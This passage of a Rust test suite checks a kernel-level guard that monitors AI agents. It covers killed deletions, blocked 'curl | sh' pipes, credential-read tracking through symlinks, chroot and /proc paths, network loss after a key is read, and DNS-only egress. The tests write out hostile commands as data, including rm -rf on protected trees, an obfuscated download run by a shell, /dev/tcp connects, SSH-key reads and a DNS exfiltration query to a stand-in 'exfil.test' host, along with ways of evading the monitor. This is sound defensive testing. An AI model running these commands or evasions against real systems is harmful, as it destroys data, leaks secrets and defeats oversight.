    loop {
        let c = d.counters();
        if let Some(n) = c[name].as_u64().filter(|n| *n >= min) {
            return n;
        }
        assert!(
            Instant::now() < deadline,
            "{name} stays 0: {c}\n{}",
            d.log()
        );
        std::thread::sleep(Duration::from_millis(200));
    }
}

/// The group leader calls `pthread_exit` and a worker thread goes on: the
/// process is still guarded (it ends with its last thread, not its
/// leader), so the worker's unlink is killed. On the host, where the agent
/// is found by ancestry and guarded by process id (no container cgroup to
/// fall back on).
#[test]
fn a_process_whose_leader_exited_is_still_guarded() {
    let Some(_g) = ready() else { return };
    let dir = std::env::temp_dir().join(format!("agtest-lexit-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(dir.join("keep")).expect("mkdir");
    std::fs::create_dir_all(dir.join("pol")).expect("mkdir");
    for f in ["f0", "f1"] {
        std::fs::write(dir.join("keep").join(f), b"x").expect("write");
    }
    std::fs::write(
        dir.join("pol/keep.yaml"),
        format!(
            "name: keep\nrules:\n  - name: keep-removal\n    kinds: [unlink]\n    match: {{ agent: any }}\n    when: {{ path: [\"{}/keep/**\"] }}\n    action: kill\n    severity: critical\n    message: \"{{comm}} removed {{path}}\"\n",
            dir.display()
        ),
    )
    .expect("write policy");
    let d = Daemon::start(&dir.join("pol"), "lexit");
    let text = run_host_agent(
        &dir,
        &format!(
            "sleep 1\n{} leader-exit-then {}/keep/f0; echo \"status=$?\"\n",
            common::evade::evade_bin().display(),
            dir.display()
        ),
    );
    assert!(
        text.contains("status=137"),
        "the worker was not killed: {text}"
    );
    let a = d.wait_alert("keep-removal", |a| a["result"]["outcome"] == "killed");
    assert_eq!(a["result"]["mechanism"], "tracepoint", "{a}");
    // The control: the same program run by a non-agent finishes.
    let st = Command::new(common::evade::evade_bin())
        .arg("leader-exit-then")
        .arg(dir.join("keep/f1"))
        .status()
        .expect("run control");
    assert_eq!(st.code(), Some(0), "control: {st}");
    assert!(!dir.join("keep/f1").exists());
    d.stop();
    cleanup();
    let _ = std::fs::remove_dir_all(&dir);
}

/// GNU `rm -rf DIR` walks the tree with directory descriptors and removes
/// each entry by a bare name (`unlinkat(dirfd, "f")`); `cd DIR && rm *`
/// passes bare names relative to the cwd. Neither string says where the
/// file is: the kernel walks up from the directory object to the protected
/// tree and kills at the first removal (at most one file lost per process).
#[test]
fn removals_by_bare_names_in_a_protected_directory_are_killed_in_the_kernel() {
    let Some(_g) = ready() else { return };
    let dir = std::env::temp_dir().join(format!("agtest-bare-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(dir.join("pol")).expect("mkdir");
    let fill = |name: &str| {
        let keep = dir.join(name);
        std::fs::create_dir_all(keep.join("sub/deeper")).expect("mkdir");
        for i in 0..20 {
            for d in [keep.clone(), keep.join("sub"), keep.join("sub/deeper")] {
                std::fs::write(d.join(format!("f{i:02}")), b"x").expect("write");
            }
        }
        keep
    };
    let (rf, star, control) = (fill("rf"), fill("star"), fill("control"));
    std::fs::write(
        dir.join("pol/keep.yaml"),
        format!(
            "name: keep\nrules:\n  - name: keep-removal\n    kinds: [unlink, rmdir]\n    match: {{ agent: any }}\n    when: {{ path: [\"{0}/rf/**\", \"{0}/star/**\"] }}\n    action: kill\n    severity: critical\n    message: \"{{comm}} removed {{path}}\"\n",
            dir.display()
        ),
    )
    .expect("write policy");
    let d = Daemon::start(&dir.join("pol"), "bare");
    // GNU rm (coreutils) from the host, not the test image's busybox: its
    // fts walk is the one that passes bare names.
    let out = run_host_agent(
        &dir,
        &format!("sleep 1\n/bin/rm -rf {}; echo \"rm=$?\"\n", rf.display()),
    );
    assert!(out.contains("rm=137"), "rm -rf was not killed: {out}");
    let left = common::count_tree(&rf);
    assert!(left >= 59, "rm -rf lost {} of 60 files: {out}", 60 - left);
    let a = d.wait_alert("keep-removal", |a| a["result"]["outcome"] == "killed");
    assert_eq!(a["result"]["by"], "kernel", "{a}");
    assert_eq!(a["result"]["mechanism"], "tracepoint", "{a}");
    // Bare names relative to the cwd, one rm per file, in a shell the
    // agent started (its tool): the first rm is killed at its unlink, the
    // loop around it is quarantined (the agent itself is not).
    let out = run_host_agent(
        &dir,
        &format!(
            "sleep 1\nsh -c 'cd {}/sub/deeper && for f in *; do /bin/rm \"$f\"; done; echo looped'; echo \"sh=$?\"\n",
            star.display()
        ),
    );
    assert!(
        out.contains("sh=137"),
        "the tool's shell was not killed: {out}"
    );
    let left = common::count_tree(&star);
    assert!(
        !out.contains("looped"),
        "the rm loop ran to its end ({left} files left): {out}"
    );
    assert!(
        left >= 59,
        "rm in the cwd lost {} of 60 files: {out}",
        60 - left
    );
    // The control: an unprotected tree, removed the same ways by the agent.
    let out = run_host_agent(
        &dir,
        &format!(
            "sleep 1\ncd {0}/sub/deeper && /bin/rm -f *; /bin/rm -rf {0}; echo \"rm=$?\"\n",
            control.display()
        ),
    );
    assert!(out.contains("rm=0"), "control: {out}");
    assert!(!control.exists(), "control tree still there: {out}");
    d.stop();
    cleanup();
    let _ = std::fs::remove_dir_all(&dir);
}

/// In a volume: `cd /data && rm -f *` and `rm -rf sub` pass names relative
/// to the cwd (busybox builds `sub/f` for the tree, which has a directory
/// part and is resolved in userspace: measured and printed). The bare names
/// are killed in the kernel at the first.
#[test]
fn relative_removals_in_a_volume_are_killed() {
    let Some(_g) = ready() else { return };
    let d = Daemon::start(&pack(), "relvol");
    let script = "sleep 1; cd /data && rm -f *; echo \"rm=$?\"";
    let (agent, avol, plain, pvol) = agent_and_control("relvol", 30, script);
    let left = count(&avol);
    assert!(
        left >= 29,
        "rm in /data lost {} of 30 files: {agent}",
        30 - left
    );
    assert!(agent.contains("rm=137"), "rm was not killed: {agent}");
    let a = d.wait_alert("volume-removal", |a| a["result"]["outcome"] == "killed");
    assert_eq!(a["result"]["by"], "kernel", "{a}");
    assert!(plain.contains("rm=0"), "{plain}");
    assert_eq!(count(&pvol), 0, "{plain}");
    d.stop();
    cleanup();
    let _ = std::fs::remove_dir_all(&avol);
    let _ = std::fs::remove_dir_all(&pvol);
}

/// `curl URL | sh` decided on the pipe, in both orders, whatever the
/// command line looks like (here `curl` is spelled out of two variables,
/// which the argv rule `download-pipe-shell` cannot see through): the
/// first of the two to start is killed at the other's exec, before the
/// script runs. A non-agent's same pipeline runs.
#[test]
fn a_download_piped_into_a_shell_is_killed_on_the_pipe() {
    let Some(_g) = ready() else { return };
    if !common::require("curl", Path::new("/usr/bin/curl").exists()) {
        return;
    }
    let dir = std::env::temp_dir().join(format!("agtest-pipe-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).expect("mkdir");
    let files = std::collections::HashMap::from([(
        "x.sh".to_owned(),
        format!("touch {}/pwned-$1\n", dir.display()).into_bytes(),
    )]);
    let srv =
        common::model::ModelApi::start("127.0.0.1:0".parse().expect("addr"), Vec::new(), files);
    let url = format!("{}/files/x.sh", srv.url());
    let d = Daemon::start(&pack(), "pipe");
    let out = run_host_agent(
        &dir,
        &format!(
            "sleep 1\n\
             sh -c 'c=cu; c=${{c}}rl; (sleep 0.3; exec $c -s {url}) | sh -s reader-first'\n\
             sh -c 'c=cu; c=${{c}}rl; $c -s {url} | (sleep 0.3; exec sh -s writer-first)'\n"
        ),
    );
    for tag in ["reader-first", "writer-first"] {
        assert!(
            !dir.join(format!("pwned-{tag}")).exists(),
            "{tag}: the downloaded script ran: {out}"
        );
    }
    // One kill in the kernel per pipeline: reader first, the writer (curl)
    // dies at its exec and the shell is quarantined; writer first, the
    // shell dies at its exec. Nothing else (the shell's failed PATH
    // lookups before its real exec are not execs of it).
    d.wait_alert("download-into-shell", |a| a["event"]["comm"] == "curl");
    d.wait_alert("download-into-shell", |a| a["event"]["comm"] == "sh");
    let all: Vec<serde_json::Value> = d
        .alerts()
        .into_iter()
        .filter(|a| a["decision"]["rule"] == "download-into-shell")
        .collect();
    assert_eq!(all.len(), 2, "{all:#?}");
    for a in &all {
        assert_eq!(a["result"]["outcome"], "killed", "{a}");
        assert_eq!(a["result"]["by"], "kernel", "{a}");
    }
    // The control: not an agent, the same pipeline runs the script.
    let st = Command::new("sh")
        .arg("-c")
        .arg(format!("curl -s {url} | sh -s control"))
        .status()
        .expect("control");
    assert!(st.success());
    assert!(dir.join("pwned-control").exists(), "control did not run");
    d.stop();
    cleanup();
    let _ = std::fs::remove_dir_all(&dir);
}

/// `rm -rf` through a symlink to the volume: one process, many unlinks,
/// each passing a path whose string is not under the mount. The daemon
/// resolves the first, kills the process and quarantines its tree; what
/// goes before that is the userspace latency (measured and printed).
#[test]
fn rm_rf_through_a_symlinked_directory_is_stopped() {
    let Some(_g) = ready() else { return };
    let d = Daemon::start(&pack(), "symrf");
    let script = "sleep 1; ln -s /data /tmp/volink; rm -rf /tmp/volink/*; echo \"rm=$?\"";
    let (agent, avol, plain, pvol) = agent_and_control("symrf", 500, script);
    let a = d.wait_alert("volume-removal", |a| a["result"]["outcome"] == "killed");
    assert_eq!(a["event"]["file"]["resolution"], "resolved", "{a}");
    let left = count(&avol);
    eprintln!(
        "rm -rf through a symlinked directory: {} of 500 files lost",
        500 - left
    );
    assert!(agent.contains("rm=137"), "rm was not killed: {agent}");
    assert!(
        left > 0,
        "rm -rf through a symlink emptied the volume: {agent}"
    );
    assert!(plain.contains("rm=0"), "{plain}");
    assert_eq!(count(&pvol), 0, "{plain}");
    d.stop();
    cleanup();
    let _ = std::fs::remove_dir_all(&avol);
    let _ = std::fs::remove_dir_all(&pvol);
}

/// The kernel prefilter (derived from the policy): a host agent's opens
/// that no rule can match stay in the kernel, and none that a rule can
/// match is lost to it: a file created in a protected directory after the
/// policy loaded, names matched wherever they are (`.env`, `.env.*`), a
/// symlink to a protected file, a failed open.
#[test]
fn opens_no_rule_can_match_stay_in_the_kernel_and_matching_ones_do_not() {
    let Some(_g) = ready() else { return };
    let dir = std::env::temp_dir().join(format!("agtest-pf-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    for d in ["secret", "proj", "pol", "other"] {
        std::fs::create_dir_all(dir.join(d)).expect("mkdir");
    }
    std::fs::write(dir.join("secret/key"), b"k\n").expect("write");
    std::fs::write(dir.join("other/x"), b"x\n").expect("write");
    for f in [".env", ".env.local", "plain.txt"] {
        std::fs::write(dir.join("proj").join(f), b"x\n").expect("write");
    }
    std::fs::write(
        dir.join("pol/pf.yaml"),
        format!(
            "name: pf\nrules:\n  - name: secret-read\n    kinds: [open]\n    match: {{ agent: any }}\n    when: {{ path: [\"{}/secret/**\", \".env\", \".env.*\"] }}\n    action: alert\n    severity: high\n    message: \"{{comm}} read {{path}}\"\n  - name: cat-read\n    kinds: [open]\n    match: {{ comm: [cat] }}\n    when: {{ path: [\"{}/other/**\"] }}\n    action: alert\n    severity: high\n    message: \"{{comm}} read {{path}}\"\n",
            dir.display(),
            dir.display()
        ),
    )
    .expect("write policy");
    let d = Daemon::start(&dir.join("pol"), "pf");
    assert!(
        d.log()
            .contains("kept in the kernel unless a rule could match: open"),
        "{}",
        d.log()
    );
    let p = dir.display();
    let text = run_host_agent(
        &dir,
        &format!(
            "sleep 1\nfor i in $(seq 300); do cat {p}/proj/plain.txt >/dev/null; done\n\
             echo new > {p}/secret/newkey; cat {p}/secret/newkey >/dev/null\n\
             cat {p}/proj/.env {p}/proj/.env.local >/dev/null\n\
             ln -s {p}/secret/key {p}/proj/innocent; cat {p}/proj/innocent >/dev/null\n\
             cat {p}/secret/missing 2>/dev/null\ncat {p}/other/x >/dev/null\necho done\n"
        ),
    );
    assert!(text.contains("done"), "{text}");
    for f in [
        "secret/newkey",
        "proj/.env",
        "proj/.env.local",
        "secret/missing",
    ] {
        let want = format!("{p}/{f}");
        d.wait_alert("secret-read", |a| {
            a["event"]["file"]["path"] == want.as_str()
        });
    }
    let a = d.wait_alert("secret-read", |a| {
        a["event"]["file"]["raw"] == format!("{p}/proj/innocent").as_str()
    });
    assert_eq!(
        a["event"]["file"]["path"],
        format!("{p}/secret/key").as_str(),
        "{a}"
    );
    // A rule that selects the program just exec'd (`cat`): its bit reaches
    // the process only once the daemon has seen the exec; the prefilter
    // asks every rule's entries, so the open still leaves the kernel.
    d.wait_alert("cat-read", |a| {
        a["event"]["file"]["path"] == format!("{p}/other/x").as_str()
    });
    // The plain file's opens never left the kernel.
    let n = wait_counter_at_least(&d, "events_prefiltered", 300);
    eprintln!("{n} open records kept in the kernel");
    d.stop();
    cleanup();
    let _ = std::fs::remove_dir_all(&dir);
}

/// The prefilter for an agent container's opens (by the file's first path
/// component below the container's root, and its name): ordinary opens
/// stay in the kernel, and none a rule can match is lost to it, whatever
/// string reached the file: a relative path, a path through a volume's
/// mount point, a symlinked directory, `..`, `/proc/self/root`, a `.env`
/// anywhere, a failed open, a directory moved into a protected one.
#[test]
fn container_opens_no_rule_can_match_stay_in_the_kernel() {
    let Some(_g) = ready() else { return };
    let dir = std::env::temp_dir().join(format!("agtest-cpf-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(dir.join("pol")).expect("mkdir");
    std::fs::write(
        dir.join("pol/pf.yaml"),
        "name: pf\nrules:\n  - name: secret-read\n    kinds: [open]\n    match: { agent: any }\n    when: { path: [\"/data/secret/**\", \"{/root,/home/*}/.ssh/**\", \".env\"] }\n    action: alert\n    severity: high\n    message: \"{comm} read {path}\"\n",
    )
    .expect("write policy");
    let d = Daemon::start(&dir.join("pol"), "cpf");
    assert!(d.log().contains("containers' opens too"), "{}", d.log());
    let before = d.counters()["events_prefiltered"].as_u64().unwrap_or(0);
    let script = "mkdir -p /root/.ssh /data/secret /work; echo k > /root/.ssh/id_rsa; \
        echo k > /data/secret/k; echo x > /work/.env; sleep 1; \
        for i in $(seq 300); do cat /etc/hostname >/dev/null; done; \
        cd /root/.ssh && cat id_rsa >/dev/null; cd /; \
        cat /data/secret/k >/dev/null; \
        ln -s /data/secret /tmp/s; cat /tmp/s/k >/dev/null; \
        cat /etc/../data/secret/k >/dev/null; \
        cat /proc/self/root/root/.ssh/id_rsa >/dev/null; \
        cat /work/.env >/dev/null; cat /data/secret/missing 2>/dev/null; \
        mkdir /tmp/d; echo k > /tmp/d/k2; read x < /tmp/d/k2; mv /tmp/d /root/.ssh/d; \
        read x < /root/.ssh/d/k2; echo done";
    let (agent, avol, _plain, pvol) = agent_and_control("cpf", 0, script);
    assert!(agent.contains("done"), "{agent}");
    for raw in [
        "id_rsa",
        "/data/secret/k",
        "/tmp/s/k",
        "/etc/../data/secret/k",
        "/proc/self/root/root/.ssh/id_rsa",
        "/work/.env",
        "/data/secret/missing",
        // Read by the shell itself just before and after its directory
        // moved under a protected one (the kernel's directory cache).
        "/root/.ssh/d/k2",
    ] {
        // `raw` is there only when it differs from the resolved path.
        d.wait_alert("secret-read", |a| {
            let f = &a["event"]["file"];
            f["raw"].as_str().or(f["path"].as_str()) == Some(raw)
        });
    }
    // The unlabelled container's identical reads raise nothing.
    let agents: Vec<_> = d
        .alerts()
        .into_iter()
        .filter(|a| a["decision"]["rule"] == "secret-read")
        .map(|a| a["event"]["identity"]["agent"]["name"].clone())
        .collect();
    assert!(agents.iter().all(|n| n == "claude"), "{agents:?}");
    let n = wait_counter_at_least(&d, "events_prefiltered", before + 300);
    eprintln!("{} container open records kept in the kernel", n - before);
    d.stop();
    cleanup();
    let _ = std::fs::remove_dir_all(&avol);
    let _ = std::fs::remove_dir_all(&pvol);
    let _ = std::fs::remove_dir_all(&dir);
}

impl Daemon {
    /// SIGSTOP (`true`) or SIGCONT the daemon: what the kernel does alone.
    fn pause(&self, stop: bool) {
        let sig = if stop { libc::SIGSTOP } else { libc::SIGCONT };
        // SAFETY: kill(2) on our own child's pid.
        unsafe { libc::kill(self.child.id() as i32, sig) };
    }
}

/// The pack's credential-read taints: once an agent container opened a
/// key, none of its processes (old or new) reaches any address, loopback
/// included; the alert for the refusal names the taint. The unlabelled
/// container running the same script keeps its network.
#[test]
fn reading_a_credential_takes_the_agent_containers_network_away() {
    let Some(_g) = ready() else { return };
    let d = Daemon::start(&pack(), "taint");
    let script = "sleep 1; nc -w 1 127.0.0.1 9 </dev/null 2>&1; echo before; \
        mkdir -p /root/.ssh; echo k > /root/.ssh/id_rsa; cat /root/.ssh/id_rsa >/dev/null; sleep 1; \
        nc -w 1 127.0.0.1 9 </dev/null 2>&1; wget -q -T 2 -O /dev/null http://127.0.0.1:9/ 2>&1; echo after";
    let (agent, avol, plain, pvol) = agent_and_control("taint", 0, script);
    let (before, after) = agent.split_once("before").expect("agent ran");
    assert!(before.contains("Connection refused"), "{agent}");
    assert!(!before.contains("Operation not permitted"), "{agent}");
    assert!(after.contains("Operation not permitted"), "{agent}");
    assert!(after.contains("after"), "{agent}");
    assert!(!plain.contains("Operation not permitted"), "{plain}");
    assert!(plain.contains("Connection refused"), "{plain}");
    let t = d.wait_alert("credential-read", |a| {
        a["decision"]["taint"] == true && a["event"]["kind"] == "open"
    });
    assert!(
        t["result"]["reason"]
            .as_str()
            .is_some_and(|r| r.contains("network taken away from container")),
        "{t}"
    );
    let a = d.wait_alert("credential-read", |a| {
        a["event"]["kind"] == "connect" && a["result"]["outcome"] == "denied"
    });
    let m = a["decision"]["message"].as_str().unwrap_or_default();
    assert!(m.contains("refused: tainted by credential-read at"), "{a}");
    assert!(m.contains("/root/.ssh/id_rsa"), "{a}");
    assert_eq!(a["event"]["identity"]["agent"]["name"], "claude", "{a}");
    let st = d.status();
    let tainted = st["tainted"].as_array().cloned().unwrap_or_default();
    assert!(
        tainted.iter().any(|t| t["rule"] == "credential-read"
            && t["subject"]
                .as_str()
                .is_some_and(|s| s.starts_with("container agtest-taint-agent"))),
        "{st}"
    );
    d.stop();
    cleanup();
    let _ = std::fs::remove_dir_all(&avol);
    let _ = std::fs::remove_dir_all(&pvol);
}

/// A host agent's read of a protected file is matched in the kernel (by
/// the file's identity), and the kernel takes the agent's network away at
/// that open: with the daemon stopped (SIGSTOP) while the tool runs, the
/// next connect of the agent, and of a child it starts afterwards, is
/// refused. A process outside the agent's tree is untouched.
#[test]
fn a_host_agents_credential_read_taints_it_in_the_kernel() {
    let Some(_g) = ready() else { return };
    let dir = std::env::temp_dir().join(format!("agtest-htaint-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(dir.join("pol")).expect("mkdir");
    std::fs::create_dir_all(dir.join("secret")).expect("mkdir");
    std::fs::write(dir.join("secret/key"), "k\n").expect("key");
    std::fs::write(
        dir.join("pol/t.yaml"),
        format!(
            "name: t\nrules:\n  - name: secret-read\n    kinds: [open]\n    match: {{ agent: any }}\n    when: {{ path: [\"{}/secret/**\"] }}\n    action: alert\n    taint: true\n    severity: high\n    message: \"{{comm}} read {{path}}\"\n",
            dir.display()
        ),
    )
    .expect("write policy");
    let d = Daemon::start(&dir.join("pol"), "htaint");
    let tcp = "bash -c 'echo > /dev/tcp/127.0.0.1/9' 2>&1";
    let body = format!(
        "sleep 2; {tcp}; echo before; cat {}/secret/key >/dev/null; {tcp}; echo after; sh -c \"{tcp}\"; echo done",
        dir.display()
    );
    let claude = write_host_agent(&dir, &body);
    let agent = Command::new(&claude)
        .stdout(Stdio::piped())
        .spawn()
        .expect("run agent");
    // The daemon has seen the agent start (its subject entry is written);
    // from here on only the kernel acts.
    std::thread::sleep(Duration::from_millis(1200));
    d.pause(true);
    let out = agent.wait_with_output().expect("agent output");
    d.pause(false);
    let out = String::from_utf8_lossy(&out.stdout).into_owned();
    let (before, after) = out.split_once("before").expect("agent ran");
    assert!(before.contains("Connection refused"), "{out}");
    let (own, child) = after.split_once("after").expect("agent went on");
    assert!(own.contains("Operation not permitted"), "{out}");
    assert!(child.contains("Operation not permitted"), "{out}");
    // Outside the agent's tree: untouched.
    let other = Command::new("bash")
        .args(["-c", "echo > /dev/tcp/127.0.0.1/9"])
        .output()
        .expect("bash");
    let e = String::from_utf8_lossy(&other.stderr);
    assert!(e.contains("Connection refused"), "{e}");
    let a = d.wait_alert("secret-read", |a| a["event"]["kind"] == "open");
    assert_eq!(a["event"]["identity"]["agent"]["name"], "claude", "{a}");
    d.wait_alert("secret-read", |a| {
        a["event"]["kind"] == "connect"
            && a["decision"]["message"]
                .as_str()
                .is_some_and(|m| m.contains("tainted by secret-read"))
    });
    d.stop();
    cleanup();
    let _ = std::fs::remove_dir_all(&dir);
}

/// A taint lasts for the container's life unless cleared: `status` lists
/// it, `agentguard untaint --pid` (a process of the container) gives the
/// network back in the kernel, and `status` then drops it.
#[test]
fn a_taint_lasts_until_agentguard_untaint_clears_it() {
    let Some(_g) = ready() else { return };
    let d = Daemon::start(&pack(), "untaint");
    let vol = volume("untaint", 0);
    let name = format!("agtest-untaint-{}", std::process::id());
    let _c = common::ContainerGuard(name.clone());
    let script = "sleep 1; mkdir -p /root/.ssh; echo k > /root/.ssh/id_rsa; sleep 1; \
        nc -w 1 127.0.0.1 9 </dev/null 2>&1; echo tainted; \
        n=0; while [ ! -e /data/go ] && [ $n -lt 300 ]; do sleep 0.1; n=$((n+1)); done; \
        nc -w 1 127.0.0.1 9 </dev/null 2>&1; echo end";
    let data = format!("{}:/data", vol.display());
    let out = Command::new("docker")
        .args(["run", "-d", "--name", &name, "-v", &data])
        .args(["--label", "agentguard.io/agent=claude"])
        .args([common::TEST_IMAGE, "sh", "-c", script])
        .output()
        .expect("docker run -d");
    assert!(out.status.success(), "{out:?}");
    d.wait_alert("credential-read", |a| a["decision"]["taint"] == true);
    // Listed while it lasts.
    let deadline = Instant::now() + Duration::from_secs(10);
    while !d.status()["tainted"].as_array().is_some_and(|t| {
        t.iter()
            .any(|t| t["subject"] == format!("container {name}"))
    }) {
        assert!(Instant::now() < deadline, "not listed: {}", d.status());
        std::thread::sleep(Duration::from_millis(200));
    }
    // The tainted connect has run (the container waits for /data/go).
    let logs = || {
        let l = Command::new("docker")
            .args(["logs", &name])
            .output()
            .expect("docker logs");
        format!(
            "{}{}",
            String::from_utf8_lossy(&l.stdout),
            String::from_utf8_lossy(&l.stderr)
        )
    };
    let deadline = Instant::now() + Duration::from_secs(10);
    while !logs().contains("tainted") {
        assert!(Instant::now() < deadline, "{}", logs());
        std::thread::sleep(Duration::from_millis(100));
    }
    let pid = Command::new("docker")
        .args(["inspect", "-f", "{{.State.Pid}}", &name])
        .output()
        .expect("docker inspect");
    let pid = String::from_utf8_lossy(&pid.stdout).trim().to_string();
    let st = Command::new(BIN)
        .args(["untaint", "--pid", &pid])
        .output()
        .expect("agentguard untaint");
    assert!(st.status.success(), "{st:?}");
    let said = String::from_utf8_lossy(&st.stderr);
    assert!(said.contains("cleared 1 taint entry"), "{said}");
    std::fs::write(vol.join("go"), "").expect("go");
    let _ = Command::new("docker").args(["wait", &name]).output();
    let logs = logs();
    let (before, after) = logs.split_once("tainted").expect("ran");
    assert!(before.contains("Operation not permitted"), "{logs}");
    assert!(after.contains("Connection refused"), "{logs}");
    assert!(after.contains("end"), "{logs}");
    // Dropped from status at the next housekeeping tick.
    let deadline = Instant::now() + Duration::from_secs(10);
    while d.status()["tainted"]
        .as_array()
        .is_some_and(|t| !t.is_empty())
    {
        assert!(Instant::now() < deadline, "still listed: {}", d.status());
        std::thread::sleep(Duration::from_millis(200));
    }
    d.stop();
    cleanup();
    let _ = std::fs::remove_dir_all(&vol);
}

/// An agent container that chroot()s below its root (Docker grants
/// CAP_SYS_CHROOT) and reads a key under the path its new root gives it
/// (`/.ssh/id_rsa`) is still seen reading `/root/.ssh/id_rsa`: walks stop
/// at the container's root recorded at its first exec, not at the task's.
/// The control container's chroot is not an agent's and raises nothing.
#[test]
fn a_chroot_inside_an_agent_container_does_not_hide_a_credential_read() {
    let Some(_g) = ready() else { return };
    let d = Daemon::start(&pack(), "chroot");
    let script = "mkdir -p /root/.ssh /root/bin; echo k > /root/.ssh/id_rsa; cp /bin/busybox /root/bin/; \
        sleep 1; chroot /root /bin/busybox cat /.ssh/id_rsa >/dev/null; \
        chroot /root /bin/busybox sh -c 'cd /.ssh && /bin/busybox cat id_rsa' >/dev/null; echo done";
    let (agent, avol, _plain, pvol) = agent_and_control("chroot", 0, script);
    assert!(agent.contains("done"), "{agent}");
    for raw in ["/.ssh/id_rsa", "id_rsa"] {
        let a = d.wait_alert("credential-read", |a| {
            a["event"]["file"]["raw"] == raw && a["event"]["comm"] == "busybox"
        });
        assert_eq!(a["event"]["file"]["path"], "/root/.ssh/id_rsa", "{a}");
    }
    let agents: Vec<_> = d
        .alerts()
        .into_iter()
        .filter(|a| a["decision"]["rule"] == "credential-read")
        .map(|a| a["event"]["identity"]["agent"]["name"].clone())
        .collect();
    assert!(agents.iter().all(|n| n == "claude"), "{agents:?}");
    d.stop();
    cleanup();
    let _ = std::fs::remove_dir_all(&avol);
    let _ = std::fs::remove_dir_all(&pvol);
}

/// A test container serving HTTP on 8080; returns its guard and address.
fn http_target(tag: &str) -> (common::ContainerGuard, std::net::Ipv4Addr) {
    let name = format!("agtest-{tag}-{}", std::process::id());
    let guard = common::ContainerGuard(name.clone());
    common::docker(&[
        "run",
        "-d",
        "--name",
        &name,
        common::TEST_IMAGE,
        "busybox",
        "httpd",
        "-f",
        "-p",
        "8080",
    ]);
    let ip = common::docker(&["inspect", "-f", "{{.NetworkSettings.IPAddress}}", &name]);
    let ip = ip
        .parse()
        .unwrap_or_else(|e| panic!("container {name} address {ip:?}: {e}"));
    (guard, ip)
}

/// Runs `script` in a container (labelled `agentguard.io/agent=claude`
/// when `agent`) with the evade helper; returns its output.
fn run_with_evade(name: &str, agent: bool, script: &str) -> String {
    let evade = common::evade::evade_bin();
    let mount = format!("{}:/bin/evade:ro", evade.display());
    let name = format!("agtest-{name}-{}", std::process::id());
    let _guard = common::ContainerGuard(name.clone());
    let mut args = vec!["--name", name.as_str(), "-v", mount.as_str()];
    if agent {
        args.extend(["--label", "agentguard.io/agent=claude"]);
    }
    args.extend([common::TEST_IMAGE, "sh", "-c", script]);
    docker_run(&args)
}

/// The value of `key` in `out`'s line starting with `key `.
fn line<'a>(out: &'a str, key: &str) -> &'a str {
    out.lines()
        .find_map(|l| l.strip_prefix(&format!("{key} ")))
        .unwrap_or_else(|| panic!("no {key:?} line in:\n{out}"))
}

/// Egress by name: an agent container reaches an address only if a DNS
/// answer it received for an allowed name gave it (an exact name, a `*.`
/// suffix through a CNAME chain, over UDP and TCP), for the answer's TTL
/// (clamped to 5 s). A hardcoded address, an address another agent
/// resolved, and an address after its TTL are refused (EPERM); a query
/// for an unlisted name is dropped in the kernel (the server never sees
/// it; a UDP send fails with EPERM; a TCP query split over segments is
/// unreadable, so dropped too) and alerted with the name; binding port 53 (to answer oneself) is
/// refused. Reading a credential then takes even the allowed names away,
/// but not from a sibling agent container. An unlabelled container runs
/// the same script untouched.
#[test]
fn agents_reach_only_what_allowed_names_resolved_to() {
    use common::dns::{DnsServer, Rec};
    let Some(_g) = ready() else { return };
    let gw = common::bridge_gateway();
    let gw_ip: std::net::Ipv4Addr = gw.parse().expect("gateway address");
    let (_t1, t1) = http_target("dns-t1");
    let (_t2, t2) = http_target("dns-t2");
    let (_t3, t3) = http_target("dns-t3");
    let exfil = "c2vjcmv0-aws-key.exfil.test";
    // A query split over two TCP segments (one byte, then the rest).
    let split = "c3bsaxq.exfil.test";
    let zone = [
        ("api.agent.test", Rec::A(t1), 1),
        ("mirror.pkg.test", Rec::Cname("edge.cdn.test".into()), 60),
        ("edge.cdn.test", Rec::A(t2), 60),
        ("evil.test", Rec::A(t3), 60),
        (exfil, Rec::A(t3), 60),
    ]
    .into_iter()
    .map(|(n, r, t)| (n.to_owned(), (r, t)))
    .collect();
    let dns = DnsServer::start(gw_ip, zone);
    let dir = std::env::temp_dir().join(format!("agtest-dnspol-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).expect("mkdir");
    std::fs::write(
        dir.join("net.yaml"),
        format!(
            "name: egress\ndns_resolvers: [{gw}]\nrules:\n  - name: agent-egress\n    kinds: [connect, send]\n    match: {{ agent: any }}\n    when:\n      dest: {{ cidrs: [0.0.0.0/0, \"::/0\"] }}\n      except: {{ loopback: true, dns_resolver: true, domains: [api.agent.test, \"*.pkg.test\"] }}\n    action: deny\n    severity: high\n    message: \"{{comm}} ({{agent}}) connected to {{addr}}:{{port}}\"\n  - name: credential-read\n    kinds: [open]\n    match: {{ agent: any }}\n    when: {{ path: [\"/root/.ssh/**\"] }}\n    action: alert\n    taint: true\n    severity: high\n    message: \"{{comm}} read {{path}}\"\n"
        ),
    )
    .expect("write policy");
    let d = Daemon::start(&dir, "dns");
    let script = format!(
        "{GOT} \
        echo \"hard $(got evade connect {t2} 8080)\"; \
        echo \"api $(got evade dns-connect {gw} api.agent.test 8080)\"; \
        echo \"cname $(got evade dns-connect {gw} mirror.pkg.test 8080)\"; \
        echo \"upper $(got evade dns-connect {gw} API.Agent.TEST 8080)\"; \
        echo \"resolver $(got evade dns-query {t3} api.agent.test)\"; \
        echo \"evil $(got evade dns-query {gw} evil.test)\"; \
        echo \"exfil $(got evade dns-query {gw} {exfil} tcp)\"; \
        echo \"split $(got evade dns-query {gw} {split} tcp-split)\"; \
        echo \"bind $(got evade bind53)\"; \
        echo \"tcp $(got evade dns-connect {gw} api.agent.test 8080 tcp)\"; \
        echo \"again $(got evade connect {t1} 8080)\"; \
        sleep 7; \
        echo \"expired $(got evade connect {t1} 8080)\"; \
        mkdir -p /root/.ssh; echo k > /root/.ssh/id_rsa; cat /root/.ssh/id_rsa >/dev/null; \
        echo \"tainted $(got evade dns-connect {gw} api.agent.test 8080)\""
    );
    let agent = run_with_evade("dns-agent", true, &script);
    let want = [
        ("hard", "err EPERM".to_owned()),
